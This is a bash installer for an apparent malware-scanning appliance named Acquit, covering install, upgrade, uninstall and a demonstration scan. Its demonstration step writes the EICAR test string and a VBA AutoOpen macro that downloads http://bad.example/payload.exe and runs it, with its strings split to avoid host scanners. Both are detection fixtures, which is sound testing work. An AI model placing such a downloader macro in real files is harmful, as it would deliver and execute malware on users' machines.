#!/usr/bin/env bash
# Makes a bare machine a running Acquit appliance, and says so with a scan.
#
# Run a second time it upgrades in place. Every long command writes into $LOG; a
# step that fails says what failed, why, and what to do.
set -Eeuo pipefail

SOURCE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
CONFIG_DIR=/etc/acquit
CONFIG=$CONFIG_DIR/acquit.toml
RUN_DIR=/run/acquit
LOG_DIR=/var/log/acquit
LOG=$LOG_DIR/install.log
PID_FILE=$RUN_DIR/acquit.pid
UNIT_DIR=/etc/systemd/system
ADMIN_KEY=$CONFIG_DIR/admin.key

# shellcheck source=tests/lib/machine.sh
. "$SOURCE/tests/lib/machine.sh"

ACTION=install PREFIX='' LISTEN='' START=yes PURGE=no

usage() {
    cat <<USAGE
Usage: install.sh [--prefix DIR] [--listen ADDRESS:PORT] [--no-start] [--offline]
       install.sh --uninstall [--purge]
       install.sh --help

Installs Acquit, builds the images of the free engines, starts the daemon and
scans a demonstration folder. Run again, it upgrades and keeps data and settings.

  --prefix DIR            where programs go                (default /usr/local)
  --listen ADDRESS:PORT   where the API listens            (default 127.0.0.1:8440)
  --no-start              install, but do not start and do not scan
  --offline               never try a container registry; the base image is made
                          from Debian packages
  --uninstall             remove programs, units, containers and images;
                          keeps $CONFIG_DIR and the data
  --purge                 with --uninstall: remove settings, keys and data too
USAGE
}

# --- the machine --------------------------------------------------------------

parse_arguments() {
    while (($#)); do
        case $1 in
            --prefix | --listen)
                [[ $# -ge 2 && -n $2 ]] || usage_error "$1 needs a value"
                if [[ $1 == --prefix ]]; then PREFIX=$2; else LISTEN=$2; fi
                shift
                ;;
            --prefix=*) PREFIX=${1#*=} ;;
            --listen=*) LISTEN=${1#*=} ;;
            --no-start) START=no ;;
            --offline) OFFLINE=yes ;;
            --uninstall) ACTION=uninstall ;;
            --purge) PURGE=yes ;;
            -h | --help) usage && exit 0 ;;
            *) usage_error "unknown argument: $1" ;;
        esac
        shift
    done
    check_arguments
}

check_arguments() {
    local plain='^/[A-Za-z0-9._/+-]+$' address='^(\[[0-9a-fA-F:.]+\]|[0-9.]+):[0-9]{1,5}$'
    [[ -z $PREFIX || $PREFIX =~ $plain ]] || usage_error "--prefix must be an absolute path of letters, digits and ._/+-"
    [[ -z $LISTEN || $LISTEN =~ $address ]] || usage_error "--listen must be IP:PORT, as 127.0.0.1:8440"
    [[ $PURGE == no || $ACTION == uninstall ]] || usage_error "--purge goes with --uninstall"
    PREFIX=${PREFIX%/}
}

usage_error() {
    printf 'install.sh: %s\n\n' "$1" >&2
    usage >&2
    exit 2
}

check_machine() {
    local name=unknown free_mb memory_mb
    # shellcheck source=/dev/null
    [[ ! -r /etc/os-release ]] || name=$(. /etc/os-release && echo "${ID:-unknown}-${VERSION_ID:-unknown}")
    case $name in
        debian-12 | debian-13 | ubuntu-22.04 | ubuntu-24.04) say "$name, $(nproc) processors" ;;
        *) warn "$name is not a distribution this is tested on (Debian 12 and 13, Ubuntu 22.04 and 24.04)" ;;
    esac
    command -v apt-get >/dev/null || die "there is no apt-get" "use Debian or Ubuntu"
    free_mb=$(df -Pm "$SOURCE" | awk 'NR == 2 { print $4 }')
    ((free_mb >= 6000)) || warn "only $free_mb MB free at $SOURCE; building needs about 6000"
    memory_mb=$(awk '/^MemTotal/ { print int($2 / 1024) }' /proc/meminfo)
    ((memory_mb >= 3500)) || warn "only $memory_mb MB of memory; all engines together need about 4000"
}

# --- installing ---------------------------------------------------------------

config_value() { # config_value KEY: of a string in the installed configuration
    [[ ! -r $CONFIG ]] || sed -n "s/^$1 = \"\(.*\)\".*/\1/p" "$CONFIG" | head -n 1
}

# What an earlier installation decided stands, unless told otherwise now.
settle_paths() {
    local runner
    runner=$(config_value runner)
    PREFIX_CHOSEN=$PREFIX
    [[ -n $PREFIX || $runner != */lib/acquit/acquit-runner ]] || PREFIX=${runner%/lib/acquit/acquit-runner}
    PREFIX=${PREFIX:-/usr/local}
    DATA_DIR=$(config_value data_dir)
    DATA_DIR=${DATA_DIR:-/var/lib/acquit}
    USER_NAME=$(config_value user)
    USER_NAME=${USER_NAME:-acquit}
}

install_programs() {
    install -D -m 0755 "$BUILD_DIR/release/acquit" "$PREFIX/bin/acquit"
    install -D -m 0755 "$(runner_path)" "$PREFIX/lib/acquit/acquit-runner"
    install_tree engines
    install_tree containers
    install -m 0644 "$SOURCE/config/prometheus-rules.yml" "$PREFIX/share/acquit/prometheus-rules.yml"
    install -m 0644 "$SOURCE/config/vendors.toml" "$PREFIX/share/acquit/vendors.toml"
}

install_tree() { # install_tree NAME: replaces share/acquit/NAME as a whole
    local target=$PREFIX/share/acquit/$1
    rm -rf "$target.new"
    mkdir -p "$target.new"
    cp -R "$SOURCE/$1/." "$target.new/"
    find "$target.new" -name __pycache__ -prune -exec rm -rf {} +
    chmod -R u=rwX,go=rX "$target.new"
    rm -rf "$target"
    mv "$target.new" "$target"
}

make_user() {
    getent passwd "$USER_NAME" >/dev/null ||
        useradd --system --user-group --home-dir "$DATA_DIR" --no-create-home --shell /usr/sbin/nologin "$USER_NAME"
}

make_directories() {
    install -d -m 0755 "$CONFIG_DIR" "$CONFIG_DIR/engines" "$CONFIG_DIR/installers" "$CONFIG_DIR/canary" "$CONFIG_DIR/canary/good" "$CONFIG_DIR/canary/bad"
    install -d -m 0700 -o "$USER_NAME" -g "$USER_NAME" "$DATA_DIR"
    install -d -m 0755 "$RUN_DIR"
}

install_config() {
    [[ -e $CONFIG ]] || install -m 0644 "$SOURCE/config/acquit.toml" "$CONFIG"
    if [[ -n $LISTEN ]]; then set_config listen "\"$LISTEN\""; fi
    [[ -n $PREFIX_CHOSEN ]] || return 0
    set_config runner "\"$PREFIX/lib/acquit/acquit-runner\""
    set_config containers "\"$PREFIX/share/acquit/containers\""
    set_config vendors "[\"$PREFIX/share/acquit/vendors.toml\", \"$CONFIG_DIR/vendors.toml\"]"
    set_config manifests "[\"$PREFIX/share/acquit/engines\", \"$CONFIG_DIR/engines\"]"
}

set_config() { # set_config KEY VALUE
    grep -q "^$1 = " "$CONFIG" || die "$CONFIG has no line '$1 = …' to write $2 to" "add that line by hand"
    sed -i "s|^$1 = .*|$1 = $2|" "$CONFIG"
}

acquit() { "$PREFIX/bin/acquit" "$@"; }

# --- running ------------------------------------------------------------------

install_units() {
    local unit
    [[ $(config_value listen) =~ ^(127\.|\[::1\]) ]] ||
        warn "acquit.service lets no other machine in; to allow some: systemctl edit acquit, [Service] IPAddressAllow=…"
    for unit in "$SOURCE"/systemd/acquit*; do
        sed "s|/usr/local/|$PREFIX/|g" "$unit" >"$UNIT_DIR/$(basename "$unit")"
    done
    systemctl daemon-reload
}

start_daemon() {
    if has_systemd; then
        install_units
        systemctl enable --now acquit-broker.socket
        systemctl try-restart acquit-broker.service
        systemctl enable acquit.service
        systemctl restart acquit.service
        say "systemd unit acquit.service, log: journalctl -u acquit"
    else
        stop_by_pid_file
        setsid "$PREFIX/bin/acquit" serve >>"$LOG_DIR/acquit.log" 2>&1 </dev/null &
        echo $! >"$PID_FILE"
        disown
        say "process $(<"$PID_FILE"), pid file $PID_FILE, log $LOG_DIR/acquit.log"
    fi
}

stop_daemon() {
    if has_systemd; then
        systemctl disable --now acquit.service acquit-broker.service acquit-broker.socket 2>/dev/null || true
    fi
    stop_by_pid_file
}

daemon_pid() { # prints the pid, unless the number has gone to another program since
    local pid
    pid=$(cat "$PID_FILE" 2>/dev/null) || return 1
    [[ -n $pid && $(cat "/proc/$pid/comm" 2>/dev/null) == acquit ]] && echo "$pid"
}

stop_by_pid_file() {
    local pid
    pid=$(daemon_pid) || return 0
    kill "$pid"
    for _ in {1..300}; do
        kill -0 "$pid" 2>/dev/null || break
        sleep 0.1
    done
    kill -KILL "$pid" 2>/dev/null || true
    rm -f "$PID_FILE"
}

server_url() {
    local listen
    listen=$(config_value listen)
    listen=${listen/#0.0.0.0:/127.0.0.1:}
    echo "http://${listen/#\[::\]:/[::1]:}"
}

readiness() { curl -fsS --noproxy '*' --max-time 5 "$(server_url)/readyz" 2>/dev/null; }

# Ready, and no engine is still on its way.
is_settled() {
    local seen
    seen=$(readiness) && [[ ! $seen =~ \"(proving|starting)\" ]]
}

daemon_lives() {
    if has_systemd; then systemctl is-active -q acquit.service; else kill -0 "$(<"$PID_FILE")" 2>/dev/null; fi
}

wait_until_ready() {
    local began=$SECONDS
    until is_settled; do
        daemon_lives || { show_daemon_log && die "the daemon ended while it was starting"; }
        if ((SECONDS - began >= 240)); then
            [[ -z $(readiness) ]] || break # it scans; the demonstration tells what is missing
            show_daemon_log
            die "the daemon is not ready after 240 s"
        fi
        [[ ! -t 1 ]] || printf '\r       waiting for %s/readyz: %d s' "$(server_url)" $((SECONDS - began))
        sleep 1
    done
    [[ ! -t 1 ]] || printf '\r\033[K'
    say "ready after $((SECONDS - began)) s"
}

show_daemon_log() {
    { if has_systemd; then journalctl -u acquit -n 20 --no-pager -o cat; else tail -n 20 "$LOG_DIR/acquit.log"; fi; } |
        sed 's/^/         | /' >&2
}

# --- the demonstration --------------------------------------------------------

# The two bad files are put together here, so that no host scanner that reads
# this script takes it for them.
make_demonstration() { # make_demonstration DIR
    # shellcheck disable=SC2016 # the dollars are EICAR's own
    printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-' 'ANTIVIRUS-TEST-FILE!$H+H*' >"$1/eicar.com"
    print_macro 'URLDownload' 'ToFile' >"$1/invoice-macro.vba"
    printf 'A plain text file. Nothing to see here.\n' >"$1/readme.txt"
    cp -L /bin/true "$1/program.elf"
    base64 -d >"$1/archive.zip" <<<UEsDBBQAAAAIAAAAIVyBGoFMJwAAAKgAAAAJAAAAbm90ZXMudHh088svycjMS1coyVcoTk1VyEgtStVRSMxLUchDSKRl5qXocfkNqEoAUEsBAhQDFAAAAAgAAAAhXIEagUwnAAAAqAAAAAkAAAAAAAAAAAAAAKQBAAAAAG5vdGVzLnR4dFBLBQYAAAAAAQABADcAAABOAAAAAAA=
    base64 -d >"$1/picture.png" <<<iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR42mPQ6w4HAAH7ARFK28dFAAAAAElFTkSuQmCC
    base64 -d >"$1/document.pdf" <<<JVBERi0xLjQKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyAvUGFnZXMgMiAwIFIgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL1R5cGUgL1BhZ2VzIC9LaWRzIFszIDAgUl0gL0NvdW50IDEgPj4KZW5kb2JqCjMgMCBvYmoKPDwgL1R5cGUgL1BhZ2UgL1BhcmVudCAyIDAgUiAvTWVkaWFCb3ggWzAgMCAyMDAgNjBdIC9Db250ZW50cyA0IDAgUiAvUmVzb3VyY2VzIDw8IC9Gb250IDw8IC9GMSA1IDAgUiA+PiA+PiA+PgplbmRvYmoKNCAwIG9iago8PCAvTGVuZ3RoIDQ3ID4+CnN0cmVhbQpCVCAvRjEgMTQgVGYgMjAgMjUgVGQgKEEgY2xlYW4gZG9jdW1lbnQpIFRqIEVUCmVuZHN0cmVhbQplbmRvYmoKNSAwIG9iago8PCAvVHlwZSAvRm9udCAvU3VidHlwZSAvVHlwZTEgL0Jhc2VGb250IC9IZWx2ZXRpY2EgPj4KZW5kb2JqCnhyZWYKMCA2CjAwMDAwMDAwMDAgNjU1MzUgZiAKMDAwMDAwMDAwOSAwMDAwMCBuIAowMDAwMDAwMDU4IDAwMDAwIG4gCjAwMDAwMDAxMTUgMDAwMDAgbiAKMDAwMDAwMDI0MCAwMDAwMCBuIAowMDAwMDAwMzM2IDAwMDAwIG4gCnRyYWlsZXIKPDwgL1NpemUgNiAvUm9vdCAxIDAgUiA+PgpzdGFydHhyZWYKNDA2CiUlRU9GCg==
}

print_macro() { # print_macro FIRST SECOND: halves of the name of Windows' download call
    printf 'Attribute VB_Name = "ThisDocument"\n'
    printf 'Private Declare PtrSafe Function %s%s Lib "urlmon" (ByVal a As LongPtr, ByVal b As String, ' "$1" "$2"
    printf 'ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n'
    printf 'Sub %s%s()\n' 'Auto' 'Open'
    printf '    %s%s 0, "http://bad.example/payload.exe", Environ("TEMP") & "\\payload.exe", 0, 0\n' "$1" "$2"
    printf '    CreateObject("%s%s").Run Environ("TEMP") & "\\payload.exe", 0\nEnd Sub\n' 'WScript.' 'Shell'
}

demonstrate() {
    local status=0
    cd "$WORK"
    mkdir demonstration
    make_demonstration demonstration
    ACQUIT_SERVER=$(server_url) ACQUIT_APIKEY=$(<"$ADMIN_KEY") acquit scan demonstration || status=$?
    cd /
    case $status in
        1) ;; # detected: the test file is there to be found
        0) die "no engine detected the EICAR test file" "run: acquit doctor" ;;
        3) die "not every engine answered for every file" "run: acquit doctor; acquit engines list" ;;
        *) die "acquit scan ended with status $status" "run: acquit doctor" ;;
    esac
}

# What the command line must be told, where it is not what it expects.
server_argument() { [[ $(server_url) == http://127.0.0.1:8440 ]] || echo " --server $(server_url)"; }

print_summary() {
    printf '\nAcquit is running.\n'
    printf '  API and pages   %s\n' "$(server_url)"
    printf '  admin key       %s (readable by root only)\n' "$ADMIN_KEY"
    printf '  settings        %s\n' "$CONFIG"
    printf '  data            %s\n' "$DATA_DIR"
    printf '  scan something  sudo acquit%s scan /path/to/folder\n' "$(server_argument)"
    printf '  took            %d:%02d\n' $((SECONDS / 60)) $((SECONDS % 60))
}

# --- taking it away -----------------------------------------------------------

# Only containers of this very instance and images of our names.
remove_from_docker() {
    local instance
    docker_answers || { warn "Docker does not answer: containers and images stay" && return 0; }
    instance=$(cat "$DATA_DIR/instance" 2>/dev/null || true)
    if [[ -n $instance ]]; then
        docker ps -aq --filter "label=acquit.instance=$instance" | xargs -r docker rm -f >/dev/null
        # One that another appliance uses stays.
        docker network ls -q --filter "label=acquit.instance=$instance" | xargs -r docker network rm >/dev/null 2>&1 || true
    fi
    docker images --format '{{.Repository}}:{{.Tag}}' --filter 'reference=acquit-*:local' | xargs -r docker rmi -f >/dev/null
    say "Docker's build cache stays; 'docker image prune' frees it"
}

uninstall() {
    STEPS=3
    step "Stop the daemon" "stop it by hand: kill \$(cat $PID_FILE)"
    settle_paths
    stop_daemon
    step "Remove containers and images" "remove them by hand: docker ps -a --filter label=acquit.instance"
    remove_from_docker
    step "Remove programs" "remove them by hand below $PREFIX"
    rm -f "$UNIT_DIR"/acquit.service "$UNIT_DIR"/acquit-broker.service "$UNIT_DIR"/acquit-broker.socket
    ! has_systemd || systemctl daemon-reload
    rm -rf "$PREFIX/bin/acquit" "$PREFIX/lib/acquit" "$PREFIX/share/acquit" "$RUN_DIR" /var/cache/acquit
    if [[ $PURGE == yes ]]; then
        rm -rf "$CONFIG_DIR" "$DATA_DIR" "$LOG_DIR"
        ! getent passwd "$USER_NAME" >/dev/null || userdel "$USER_NAME"
        say "settings, keys, data and logs are gone"
    else
        say "kept: $CONFIG_DIR, $DATA_DIR, $LOG_DIR (remove them with --uninstall --purge)"
    fi
}

install_acquit() {
    if [[ $START == yes ]]; then STEPS=9; else STEPS=7; fi
    step "Check the machine" "use Debian 12 or 13, or Ubuntu 22.04 or 24.04"
    check_machine
    settle_paths
    step "Packages and Docker Engine" "check the network and 'apt-get update', run install.sh again"
    need_packages build-essential ca-certificates curl mmdebstrap
    ensure_docker
    step "Rust toolchain" "install Rust $(wanted_rust) or newer, run install.sh again"
    ensure_rust
    step "Build the programs and the base image" "read the log; a lost network mends itself by running install.sh again"
    build_all
    step "Install below $PREFIX, $CONFIG_DIR and $DATA_DIR" "look whether these directories can be written"
    make_user
    make_directories
    install_programs
    install_config
    acquit check-config >>"$LOG" || die "$CONFIG is not valid" "mend what 'acquit check-config' says"
    step "Build the engines' images" "run: acquit engines build --all"
    run "engine images" acquit engines build --all
    step "Admin key" "if $ADMIN_KEY is no key, move it away; run install.sh again"
    acquit keys init || die "acquit keys init ended with status $?"
    [[ $START == yes ]] || { say "not started, as told" && return 0; }
    step "Start the daemon" "run: acquit doctor"
    start_daemon
    wait_until_ready
    step "Scan a demonstration folder" "run: acquit doctor"
    demonstrate
    print_summary
}

main() {
    parse_arguments "$@"
    check_root
    umask 022
    set_traps
    install -d -m 0750 "$LOG_DIR"
    printf '\n==== %s install.sh %s\n' "$(date -u +%FT%TZ)" "$*" >>"$LOG"
    if [[ $ACTION == uninstall ]]; then uninstall; else install_acquit; fi
}

main "$@"
